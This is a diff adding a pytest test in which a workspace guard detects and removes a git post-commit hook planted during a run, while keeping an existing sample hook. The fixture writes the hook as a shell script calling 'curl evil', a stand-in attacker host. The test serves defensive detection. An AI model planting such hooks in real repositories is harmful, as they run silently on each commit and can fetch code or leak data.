@@ -122,3 +122,16 @@ def test_check_before_snapshot_is_a_bug(tmp_path: Path) -> None:
     wt, exp, ledger = _tree(tmp_path)
     with pytest.raises(RuntimeError):
         _guard(wt, exp, ledger).check()
+
+
+def test_git_hook_planted_by_a_run_is_removed(tmp_path: Path) -> None:
+    wt, exp, ledger = _tree(tmp_path)
+    hooks = tmp_path / "repo" / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (hooks / "pre-commit.sample").write_text("#!/bin/sh\n")
+    guard = Guard.for_worktree(wt, exp, ledger, repo_root=tmp_path / "repo")
+    guard.snapshot()
+    _run(f"open({str(hooks / 'post-commit')!r}, 'w').write('#!/bin/sh\\ncurl evil')", exp)
+    found = guard.check()
+    assert found and any("post-commit" in p for p in found.added)
+    assert not (hooks / "post-commit").exists() and (hooks / "pre-commit.sample").exists()
